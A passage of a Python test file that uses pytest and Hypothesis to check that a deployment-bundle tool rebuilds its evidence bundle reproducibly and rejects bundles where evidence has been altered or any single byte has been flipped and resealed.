    kept = made.with_name("every")
    if not kept.exists():
        Path("in.yaml").write_text(INPUTS)
        lay_out(Path(), {"crds/a.yaml": DEFINED})
        options = [f"--deployer={name}" for name in DEPLOYERS]
        options += ["--annotate", "--inputs", "in.yaml", "--crds", "crds"]
        assert bundle("--evidence", *options) == 0
        shutil.copytree("out", kept)
    shutil.copytree(kept, "out", dirs_exist_ok=True)
    capsys.readouterr()
    return Shell(capsys)


def test_a_bundle_for_every_deployer_is_made_again(every: Shell) -> None:
    assert replayed(every) == []
    seen = json.loads(Path("out/evidence/rendered.json").read_text())
    assert seen["definitions"]["checked"]
    document("evidence/rendered.json", lambda r: r["definitions"].update(checked=[]))()
    reseal(Path("out"))
    found = replayed(every, code=1)
    assert any("definitions.checked[0]: rules saw nothing" in each for each in found), found


def _decides_nothing(path: str, before: bytes, after: bytes) -> bool:
    """Say whether a document of the evidence says the same but for who made it, and when."""
    if not path.startswith("evidence/") or not path.endswith(".json"):
        return False
    try:
        one, other = json.loads(before), json.loads(after)
    except ValueError:
        return False
    for each in (one, other):
        if isinstance(each, dict):
            each.pop("generator", None)
            each.pop("metadata", None)
    return json.dumps(one) == json.dumps(other)


@settings(
    max_examples=12,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
@pytest.mark.usefixtures("every")
def test_a_bundle_with_any_other_byte_is_not_replayed(data: st.DataObject) -> None:
    """Whoever seals it again, whatever file it is in, and whatever deploys it."""
    listed = sorted(json.loads(Path("out/manifest.json").read_bytes())["files"])
    groups = sorted({each.partition("/")[0] for each in listed})
    group = data.draw(st.sampled_from(groups))
    path = data.draw(st.sampled_from([e for e in listed if e.partition("/")[0] == group]))
    place = Path("out", path)
    before = place.read_bytes()
    at = data.draw(st.integers(0, len(before) - 1))
    byte = data.draw(st.integers(1, 255)) ^ before[at]
    after = before[:at] + bytes([byte]) + before[at + 1 :]
    assume(not _decides_nothing(path, before, after))
    sealing = {name: Path("out", name).read_bytes() for name in ("manifest.json", "checksums.txt")}
    try:
        place.write_bytes(after)
        reseal(Path("out"))
        code = run(root, ["--no-config", "bundle", "verify", "out", "--replay"])
        assert code in {1, 2}, path
    finally:
        place.write_bytes(before)
        for name, content in sealing.items():
            Path("out", name).write_bytes(content)
